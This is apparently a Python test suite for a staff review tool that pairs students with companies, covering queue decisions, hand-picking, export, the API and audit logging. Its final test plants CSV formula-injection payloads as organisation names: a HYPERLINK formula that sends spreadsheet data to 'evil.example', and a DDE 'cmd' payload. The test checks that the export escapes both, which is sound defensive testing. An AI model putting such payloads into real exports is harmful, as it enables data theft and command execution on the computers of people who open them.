"""Staff decide: the review queue and its decisions, hand-picking, pipeline, export, audit."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
from asyncpg import Connection

from service.kit.config import Settings
from service.matches import service as matches
from service.review import service as review
from tests.conftest import post_form
from tests.factories import MakeMatch, MakeParticipant, MakeStaff
from tests.support import sign_in_staff

People = dict[str, Any]


async def test_the_queue_shows_both_profiles_and_the_explanation_and_approval_introduces_both(
    client: httpx.AsyncClient, conn: Connection, settings: Settings, make_participant: MakeParticipant,
    make_staff: MakeStaff, make_match: MakeMatch, sigrid: People, raufoss: People,
) -> None:
    student, company = await make_participant(**sigrid), await make_participant(**raufoss)
    reviewer = await make_staff()
    match_id = (await make_match(student, company, score=0.71))["id"]
    await sign_in_staff(client, conn, reviewer["email"])

    page = (await client.get("/staff/queue?lang=en")).text
    assert "Sigrid Haugen" in page and "Raufoss OT Security AS" in page
    assert "Shared domain: Cyber security and ICT" in page  # the explanation, about both by name
    assert "Sigrid Haugen looks for “" in page
    # The score in words with what makes it (issue 12, wall 7): no bare number.
    assert '<span class="fit-word">Good fit</span>' in page and "Interests, both ways" in page
    assert "Score 0.71" not in page and "God match" in (await client.get("/staff/queue?lang=nb")).text
    assert "Masteroppgave om sikkerhet" in page and "Master thesis on securing" in page  # side by side

    response = await post_form(client, f"/staff/queue/{match_id}/approve", {"back": "status=pending"})
    assert response.status_code == 303 and "done=approve" in response.headers["location"]
    match = await matches.by_id(conn, match_id)
    assert match is not None and match["state"] == "introduced"
    recipients = {row["to_address"] for row in await conn.fetch("SELECT to_address FROM outbox WHERE match_id = $1",
                                                                 match_id)}
    assert recipients == {sigrid["email"], raufoss["email"]}
    actions = [row["action"] for row in await conn.fetch("SELECT action FROM audit_log ORDER BY id")]
    assert actions == ["sign_in", "view_queue", "view_queue", "approve"]
    again = await post_form(client, f"/staff/queue/{match_id}/approve", {})
    assert again.status_code == 409 and "Satt i kontakt" in again.text  # names the current state (nb: sticky)


async def test_reject_needs_a_reason_and_snooze_takes_a_pair_out_until_a_day(
    client: httpx.AsyncClient, conn: Connection, settings: Settings, make_participant: MakeParticipant,
    make_staff: MakeStaff, make_match: MakeMatch, sigrid: People, raufoss: People, jonas: People,
) -> None:
    s1, company, s2 = [await make_participant(**fields, embed=False) for fields in (sigrid, raufoss, jonas)]
    first, second = (await make_match(s1, company, score=0.9))["id"], (await make_match(s2, company))["id"]
    await sign_in_staff(client, conn, (await make_staff())["email"])

    missing = await post_form(client, f"/staff/queue/{first}/reject", {"reason": " "})
    assert missing.status_code == 422 and f'id="reason-{first}-error"' in missing.text
    await post_form(client, f"/staff/queue/{first}/reject", {"reason": "Wants paid work only"})
    events = await matches.events(conn, first)
    assert events[-1]["to_state"] == "rejected" and events[-1]["reason"] == "Wants paid work only"

    past = await post_form(client, f"/staff/queue/{second}/snooze", {"until": "2020-01-01"})
    assert past.status_code == 422 and f'id="until-{second}-error"' in past.text
    await post_form(client, f"/staff/queue/{second}/snooze", {"until": "2099-01-01"})
    assert "Jonas Berg" not in (await client.get("/staff/queue")).text
    assert "Jonas Berg" in (await client.get("/staff/queue?status=snoozed")).text
    assert "Sigrid Haugen" in (await client.get("/staff/queue?status=rejected")).text


async def test_filters_search_and_keyset_pages_of_fifty(
    client: httpx.AsyncClient, conn: Connection, settings: Settings, make_participant: MakeParticipant,
    make_staff: MakeStaff, make_match: MakeMatch, raufoss: People, bakery: People,
) -> None:
    companies = [await make_participant(**raufoss, embed=False), await make_participant(**bakery, embed=False)]
    students = [await make_participant(name=f"Student {i:02d}", embed=False) for i in range(60)]
    for i, student in enumerate(students):
        await make_match(student, companies[i % 2], score=i / 100)
    await sign_in_staff(client, conn, (await make_staff())["email"])

    first = await client.get("/staff/queue")
    assert first.text.count('class="queue-item"') == 50 and "Student 59" in first.text
    next_url = first.text.split('rel="next"')[0].rsplit('href="', 1)[1].split('"')[0].replace("&amp;", "&")
    second = await client.get(next_url)
    assert second.text.count('class="queue-item"') == 10 and "Student 09" in second.text
    assert "Student 59" not in second.text
    by_domain = await client.get("/staff/queue?domain=bioeconomy")  # the bakery shares no domain: none
    assert 'class="queue-item"' not in by_domain.text
    searched = await client.get("/staff/queue?q=Student+07")
    assert searched.text.count('class="queue-item"') == 1
    api = (await client.get("/api/v1/review/queue?kinds=student,company&limit=5")).json()
    assert api["total"] == 60 and len(api["items"]) == 5 and api["next_cursor"]


async def test_bulk_approve_skips_pairs_decided_meanwhile(
    client: httpx.AsyncClient, conn: Connection, settings: Settings, make_participant: MakeParticipant,
    make_staff: MakeStaff, make_match: MakeMatch,
) -> None:
    s1, s2 = await make_participant(capacity=5, embed=False), await make_participant(capacity=5, embed=False)
    company = await make_participant("company", capacity=5, embed=False)
    first, second = (await make_match(s1, company))["id"], (await make_match(s2, company))["id"]
    await sign_in_staff(client, conn, (await make_staff())["email"])
    await review.reject(conn, settings, second, review.Actor.staff(None, "other"), "no")
    response = await post_form(client, "/staff/queue/bulk", [("match_id", str(first)), ("match_id", str(second))])
    assert "approved=1" in response.headers["location"] and "skipped=1" in response.headers["location"]
    assert (await matches.by_id(conn, first))["state"] == "introduced"  # type: ignore[index]


async def test_hand_pick_pairs_two_and_refuses_a_pair_breaking_a_hard_constraint(
    client: httpx.AsyncClient, conn: Connection, make_participant: MakeParticipant, make_staff: MakeStaff,
    sigrid: People, raufoss: People, jonas: People, bakery: People,
) -> None:
    student, company, other_student, bakery_id = [
        (await make_participant(**fields, embed=False))["id"] for fields in (sigrid, raufoss, jonas, bakery)
    ]
    await sign_in_staff(client, conn, (await make_staff())["email"])
    found = await client.get("/staff/handpick?q1=Sigrid&q2=Raufoss")
    assert f'id="first-{student}"' in found.text and f'id="second-{company}"' in found.text

    same_kind = await post_form(client, "/staff/handpick", {"first": student, "second": other_student})
    assert same_kind.status_code == 422 and "samme type" in same_kind.text
    no_domain = await post_form(client, "/staff/handpick", {"first": student, "second": bakery_id, "q1": "Sigrid"})
    assert no_domain.status_code == 422 and "ikke noe felles fagområde" in no_domain.text
    paired = await post_form(client, "/staff/handpick", {"first": student, "second": company})
    assert paired.status_code == 303
    match = await conn.fetchrow("SELECT * FROM matches")
    assert match["origin"] == "hand_picked" and match["state"] == "introduced"
    assert paired.headers["location"] == f"/staff/matches/{match['id']}?done=handpick"
    again = await post_form(client, "/staff/handpick", {"first": company, "second": student})
    assert again.status_code == 422 and "allerede koblet" in again.text


async def test_pipeline_match_timeline_close_and_export(
    client: httpx.AsyncClient, conn: Connection, make_participant: MakeParticipant, make_staff: MakeStaff,
    make_match: MakeMatch, sigrid: People, raufoss: People,
) -> None:
    student = await make_participant(**sigrid, embed=False)
    match_id = (await make_match(student, await make_participant(**raufoss, embed=False)))["id"]
    reviewer = (await make_staff())["email"]
    await sign_in_staff(client, conn, reviewer)
    await post_form(client, f"/staff/queue/{match_id}/approve", {})

    board = await client.get("/staff/pipeline?lang=en")
    assert "Introduced <span class=\"count\">(1)</span>" in board.text and f"/staff/matches/{match_id}" in board.text
    page = await client.get(f"/staff/matches/{match_id}?lang=en")
    assert page.text.count("Approved") >= 1 and reviewer in page.text  # the timeline names who decided
    missing = await post_form(client, f"/staff/matches/{match_id}/close", {"reason": ""})
    assert missing.status_code == 422 and 'id="close-reason-error"' in missing.text
    await post_form(client, f"/staff/matches/{match_id}/close", {"reason": "Company paused hiring"})
    assert (await matches.by_id(conn, match_id))["state"] == "closed"  # type: ignore[index]

    exported = await client.get("/staff/export.csv")
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[0]["state"] == "closed" and rows[0]["a_kind"] == "student" and rows[0]["shared_domains"] == "cyber_ict"
    assert sigrid["email"] not in exported.text and "Sigrid" not in exported.text  # no names or contacts
    actions = {row["action"] for row in await conn.fetch("SELECT action FROM audit_log")}
    assert {"approve", "view_pipeline", "view_match", "close", "export"} <= actions


async def test_admins_manage_staff_and_read_the_audit_log(
    client: httpx.AsyncClient, conn: Connection, make_staff: MakeStaff
) -> None:
    admin = await make_staff("admin", "anders.admin@brighthouse.example")
    admin_id = admin["id"]
    await sign_in_staff(client, conn, admin["email"])
    bad = await post_form(client, "/staff/admin/add", {"email": "not-an-address", "role": "reviewer"})
    assert bad.status_code == 422 and 'id="new-email-error"' in bad.text and "not-an-address" in bad.text
    rita_email = "rita@brighthouse.example"
    await post_form(client, "/staff/admin/add", {"email": rita_email, "name": "Rita", "role": "reviewer"})
    rita = await conn.fetchrow("SELECT * FROM staff WHERE email = $1", rita_email)
    assert rita["role"] == "reviewer"
    last_admin = await post_form(client, f"/staff/admin/{admin_id}/role", {"role": "reviewer"})
    assert last_admin.status_code == 409 and "minst én administrator" in last_admin.text
    await post_form(client, f"/staff/admin/{rita['id']}/disable", {})
    assert await conn.fetchval("SELECT disabled_at FROM staff WHERE id = $1", rita["id"]) is not None
    log = await client.get("/staff/audit")
    assert "staff_add" in log.text and "staff_disable" in log.text and admin["email"] in log.text


async def test_the_api_decides_and_answers_409_naming_the_current_state(
    client: httpx.AsyncClient, conn: Connection, settings: Settings, make_participant: MakeParticipant,
    make_match: MakeMatch,
) -> None:
    student = await make_participant(name="Sigrid Haugen", embed=False)
    match_id = (await make_match(student, await make_participant("company", embed=False)))["id"]
    auth = {"Authorization": f"Bearer {settings.koble_api_token}"}
    queue = (await client.get("/api/v1/review/queue", headers=auth)).json()
    assert queue["items"][0]["match_id"] == match_id and queue["items"][0]["a"]["name"] == "Sigrid Haugen"

    no_reason = await client.post(f"/api/v1/review/matches/{match_id}/reject", headers=auth, json={})
    assert no_reason.status_code == 422 and no_reason.json()["detail"][0]["field"] == "reason"
    past = await client.post(f"/api/v1/review/matches/{match_id}/snooze", headers=auth, json={"until": "2020-01-01"})
    assert past.status_code == 422 and past.json()["detail"][0]["field"] == "until"
    later = await client.post(f"/api/v1/review/matches/{match_id}/snooze", headers=auth, json={"until": "2099-01-01"})
    assert later.json()["state"] == "suggested" and later.json()["snoozed_until"].startswith("2099-01-01")
    approved = await client.post(f"/api/v1/review/matches/{match_id}/approve", headers=auth)
    assert approved.json() == {"match_id": match_id, "state": "introduced", "snoozed_until": None}
    late = await client.post(f"/api/v1/review/matches/{match_id}/reject", headers=auth, json={"reason": "x"})
    assert late.status_code == 409
    assert late.json()["detail"]["current_state"] == "introduced" and late.json()["detail"]["match_id"] == match_id
    assert (await client.post("/api/v1/review/matches/999999/approve", headers=auth)).status_code == 404
    assert await conn.fetchval("SELECT actor_label FROM audit_log WHERE action = 'approve'") == "api token"
    paths = (await client.get("/openapi.json")).json()["paths"]
    assert "409" in paths["/api/v1/review/matches/{match_id}/approve"]["post"]["responses"]


async def test_the_export_neutralises_formulas_typed_as_organisation_names(
    client: httpx.AsyncClient, conn: Connection, make_participant: MakeParticipant, make_match: MakeMatch,
    make_staff: MakeStaff,
) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'
    student = await make_participant("student", organisation="+cmd|' /C calc'!A0", embed=False)
    company = await make_participant("company", organisation=payload, embed=False)
    await make_match(student, company)
    await sign_in_staff(client, conn, (await make_staff())["email"])

    exported = await client.get("/staff/export.csv")
    rows = list(csv.reader(io.StringIO(exported.text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert "'" + payload in cells and "'+cmd|' /C calc'!A0" in cells
